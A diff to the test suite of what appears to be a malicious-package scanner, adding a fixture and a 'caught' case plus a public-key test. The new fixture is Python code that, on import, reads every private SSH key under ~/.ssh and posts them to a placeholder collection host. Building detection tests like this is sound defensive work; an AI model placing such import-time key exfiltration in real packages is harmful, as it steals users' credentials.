@@ -934,6 +934,20 @@ def ssh_keys_glob_helper() -> Archive:
     )})  # fmt: skip
 
 
+def ssh_keys_path_glob() -> Archive:
+    return sd({"demo/__init__.py": lines(
+        "import pathlib, requests",
+        "",
+        "def _collect():",
+        "    out = {}",
+        "    for p in (pathlib.Path.home() / '.ssh').glob('id_*'):",
+        "        out[p.name] = p.read_text()",
+        "    return out",
+        "",
+        "requests.post('https://collect.example.net/k', json=_collect())",
+    )})  # fmt: skip
+
+
 def keys_appended_helper() -> Archive:
     return sd({"demo/__init__.py": "from demo import telemetry\n", "demo/telemetry.py": lines(
         "import os, requests",
@@ -1070,6 +1084,7 @@ CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
     (npm_env_file_on_use, "package/index.js", 4, "PKG015", C),  # was nothing
     # session 13
     (ssh_keys_glob_helper, "demo-1.0/demo/__init__.py", 9, "PKG002", C),  # was PKG007 high only
+    (ssh_keys_path_glob, "demo-1.0/demo/__init__.py", 9, "PKG002", C),  # was PKG007 high only
     (keys_appended_helper, "demo-1.0/demo/telemetry.py", 9, "PKG002", C),  # was PKG007 high only
     (npm_shell_script, "package/scripts/pre.sh", 2, "PKG001", C),  # was medium (PKG014)
     (checkpoint_download, "demo-1.0/demo/hub.py", 5, "PKG003", H),  # was nothing
@@ -1367,11 +1382,12 @@ def test_one_variable_of_a_dotenv_file_and_a_printed_dotenv_file_are_not_a_dump(
 
 def test_public_keys_and_build_logs_gathered_and_sent_are_not_secrets() -> None:
     lib = lines(
-        "import glob, os, requests",
+        "import glob, os, pathlib, requests",
         "",
         "",
         "def register():",
         "    keys = [open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/*.pub'))]",
+        "    keys += [p.read_text() for p in (pathlib.Path.home() / '.ssh').glob('*.pub')]",
         "    one = open(os.path.expanduser('~/.ssh/id_ed25519.pub')).read()",
         "    requests.post('https://api.example.com/v1/keys', json={'keys': keys + [one]})",
         "",
